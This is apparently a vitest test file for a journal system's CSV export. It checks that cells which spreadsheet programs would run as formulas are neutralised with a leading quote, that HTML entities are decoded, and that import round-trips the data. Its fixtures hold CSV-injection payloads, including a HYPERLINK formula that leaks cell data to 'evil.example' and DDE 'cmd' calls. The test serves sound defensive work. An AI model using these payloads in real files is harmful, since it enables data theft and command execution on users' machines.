// The articles spreadsheet export (issue 46, docs/decisions/0302): a cell a spreadsheet program would run as a formula
// (= + - @, tab, carriage return first) goes out behind a single quote (OWASP's CSV-injection advice), plain-text cells
// carry no HTML character references, and the import takes the quote off again. Read by Python's csv module.
import { env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { and, eq } from "drizzle-orm";
import { bearer } from "#tests/api/auth-fixtures";
import { createArticle, createIssue, dbOf, request } from "#tests/api/fixtures";
import { articles } from "../core/data/schema";
import { importFile, sameJournal } from "./transfer-fixtures.testing";

const FORMULA = /^[=+\-@\t\r]/;

const HOSTILE = {
  refnumber: "CSV-INJ-1",
  title: '=HYPERLINK("http://evil.example/?leak="&amp;A2,"Open")',
  authorname: "@SUM(1+1)*cmd|' /C calc'!A0",
  keywords: "+1+2",
  description: "-2+3+cmd|' /C notepad'!A0",
  subject: "=1+1",
};
const ENTITIES = {
  refnumber: "CSV-ENT-1",
  title: "Fe &amp; Mn in <i>caf&eacute;</i> soils",
  authorname: "Jos&eacute; M&uuml;ller, Ana&#39;s Co",
  keywords: "R&amp;D, caf&eacute;",
  subject: "Soils &amp; water",
};

async function pythonCsv(text: string): Promise<string[][]> {
  const res = await env.FILE_CHECK.fetch("http://checker/python-csv", { method: "POST", body: new TextEncoder().encode(text) });
  const got = (await res.json()) as { ok: boolean; output: string };
  expect(got.ok, got.output).toBe(true);
  return JSON.parse(got.output);
}

describe("the articles spreadsheet export", () => {
  it("writes no live formula and no character reference, and imports back as it was", async () => {
    const from = await sameJournal(`Sheet Attack ${Date.now()}`);
    await createIssue(from.id, 2024, 1, 1);
    await createArticle(from.id, HOSTILE);
    await createArticle(from.id, ENTITIES);
    const res = await request(from.host, "/api/admin/transfer/export?format=csv", { headers: bearer(from.token) });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const [header, ...rows] = await pythonCsv(csv);
    const col = (name: string) => header.indexOf(name);
    const row = (ref: string) => rows.find((r) => r[col("refnumber")] === ref)!;

    // As a spreadsheet program reads each cell: none starts a formula.
    for (const r of rows) for (const [i, cell] of r.entries()) expect(cell, `${header[i]} of ${r[0]}`).not.toMatch(FORMULA);
    const hostile = row(HOSTILE.refnumber);
    expect(hostile[col("title")]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A2,"Open")`);
    expect(hostile[col("authorname")]).toBe(`'${HOSTILE.authorname}`);
    expect(hostile[col("keywords")]).toBe("'+1+2");
    expect(hostile[col("description")]).toBe(`'${HOSTILE.description}`);
    expect(hostile[col("subject")]).toBe("'=1+1");

    // Plain-text cells hold the characters, not their HTML references; the title keeps its markup.
    const decoded = row(ENTITIES.refnumber);
    expect(decoded[col("authorname")]).toBe("José Müller, Ana's Co");
    expect(decoded[col("keywords")]).toBe("R&D, café");
    expect(decoded[col("subject")]).toBe("Soils & water");
    expect(decoded[col("title")]).toBe("Fe & Mn in <i>café</i> soils");
    for (const r of rows)
      for (const [i, cell] of r.entries()) if (header[i] !== "author_details") expect(cell).not.toMatch(/&(#\d+|[a-z]+);/i);

    // Imported into an empty journal: the hostile text is stored as it was typed, not with the export's quote.
    const to = await sameJournal(`Sheet Attack Copy ${Date.now()}`);
    const imported = await importFile(to.host, to.token, { text: csv, name: "articles.csv" }, { dryRun: "0", requirePdf: "0" });
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    const stored = async (journalId: number, ref: string) =>
      (
        await dbOf(journalId)
          .select()
          .from(articles)
          .where(and(eq(articles.journalId, journalId), eq(articles.refnumber, ref)))
      )[0];
    const [before, after] = [await stored(from.id, HOSTILE.refnumber), await stored(to.id, HOSTILE.refnumber)];
    for (const k of ["title", "authorname", "keywords", "description", "subject"] as const) expect(after[k], k).toBe(before[k]);
    const copy = await stored(to.id, ENTITIES.refnumber);
    expect(copy.title).toBe((await stored(from.id, ENTITIES.refnumber)).title);
    expect(copy.authorname).toBe("José Müller, Ana's Co");
  });
});
